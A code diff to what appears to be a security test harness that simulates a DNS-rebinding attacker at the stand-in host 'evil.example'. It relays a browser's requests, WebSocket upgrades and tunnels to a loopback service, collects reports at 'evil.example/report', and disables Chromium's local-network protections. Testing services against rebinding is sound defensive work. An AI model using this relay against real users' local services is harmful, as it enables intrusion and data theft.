@@ -101,7 +101,7 @@ export function send(
   });
 }
 
-/** The attacker's machine, as the browser's proxy: `evil.example` is there at first, and on port `rebound` it is loopback later. */
+/** The attacker's machine: `evil.example` is there at first, and on the sandbox's port it is loopback later. */
 export interface Attacker {
   readonly flags: readonly string[];
   /** Where the browser is led. */
@@ -115,7 +115,11 @@ export interface Attacker {
 
 const NAME = "evil.example";
 
-export async function startAttacker(endpoint: string, all: readonly Attempt[]): Promise<Attacker> {
+/**
+ * @param by who resolves the attacker's name: a proxy of the browser, or the browser itself, which then speaks to loopback without anybody
+ * between
+ */
+export async function startAttacker(endpoint: string, all: readonly Attempt[], by: "proxy" | "resolver"): Promise<Attacker> {
   const { port } = new URL(endpoint);
   const rebound = `http://${NAME}:${port}`;
   const control: string[] = [];
@@ -130,36 +134,48 @@ export async function startAttacker(endpoint: string, all: readonly Attempt[]): 
     [`http://${NAME}/`, page(byName, `http://${NAME}/report`, `${rebound}/page`)],
     [`${rebound}/page`, page([rebound], `${rebound}/report`, "")],
   ]);
-  const proxy = createServer((request, response) => {
-    const url = request.url ?? "";
+  const machine = createServer((request, response) => {
+    const { url: asked = "", headers: sent } = request;
+    // A proxy is asked for whole addresses.
+    const url = asked.startsWith("/") ? `http://${sent.host ?? ""}${asked}` : asked;
     const known = pages.get(url);
     if (known !== undefined) return void response.writeHead(200, { "content-type": "text/html" }).end(known);
     if (url === `http://${NAME}/report`) return void collect(request, response, first.resolve);
     if (url === `${rebound}/report`) return void collect(request, response, second.resolve);
     if (!url.startsWith(rebound)) return void response.writeHead(404).end();
     // The name is loopback from now on: the request goes there as the browser sent it.
-    const onward = httpRequest(endpoint, { method: request.method, path: url.slice(rebound.length), headers: request.headers }, (reply) => {
+    const onward = httpRequest(endpoint, { method: request.method, path: url.slice(rebound.length), headers: sent }, (reply) => {
       response.writeHead(reply.statusCode ?? 500, reply.headers);
       reply.pipe(response);
     });
     onward.on("error", () => response.destroy());
     request.pipe(onward);
   });
-  // A browser asks a proxy for a tunnel if it opens a WebSocket.
-  proxy.on("connect", ({ url }: IncomingMessage, socket: Duplex) => {
-    if (url !== `${NAME}:${port}`) return void socket.end("HTTP/1.1 404 Not Found\r\n\r\n");
-    const onward = connect(Number(port), "127.0.0.1", () => socket.write("HTTP/1.1 200 OK\r\n\r\n"));
+  const join = (socket: Duplex, begin: (onward: Duplex) => void) => {
+    const onward = connect(Number(port), "127.0.0.1", () => begin(onward));
     for (const each of [socket, onward]) each.on("error", () => onward.destroy());
-    return void socket.pipe(onward).pipe(socket);
+    socket.pipe(onward).pipe(socket);
+  };
+  // A browser asks a proxy for a tunnel if it opens a WebSocket.
+  machine.on("connect", ({ url }: IncomingMessage, socket: Duplex) => {
+    if (url !== `${NAME}:${port}`) return void socket.end("HTTP/1.1 404 Not Found\r\n\r\n");
+    return join(socket, () => socket.write("HTTP/1.1 200 OK\r\n\r\n"));
   });
+  machine.on("upgrade", ({ method, url, rawHeaders }: IncomingMessage, socket: Duplex) => {
+    const lines = rawHeaders.flatMap((text, index) => (index % 2 === 0 ? [`${text}: ${rawHeaders[index + 1] ?? ""}`] : []));
+    join(socket, (onward) => onward.write([`${method} ${url} HTTP/1.1`, ...lines, "", ""].join("\r\n")));
+  });
+  const place = await listen(machine);
+  const rule = (of: string) => `MAP ${NAME}:${of} ${new URL(place).host}`;
+  const way = by === "proxy" ? `--proxy-server=${place}` : `--host-resolver-rules=${rule("80")}, ${rule(port)}`;
   return {
     // Chromium's own barrier between pages and loopback is taken away: other browsers have none.
-    flags: [`--proxy-server=${await listen(proxy)}`, "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"],
+    flags: [way, "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"],
     url: `http://${NAME}/`,
     reports: Promise.all([first.promise, second.promise]),
     control,
     stop() {
-      for (const server of [open.server, proxy]) {
+      for (const server of [open.server, machine]) {
         server.close();
         server.closeAllConnections();
       }
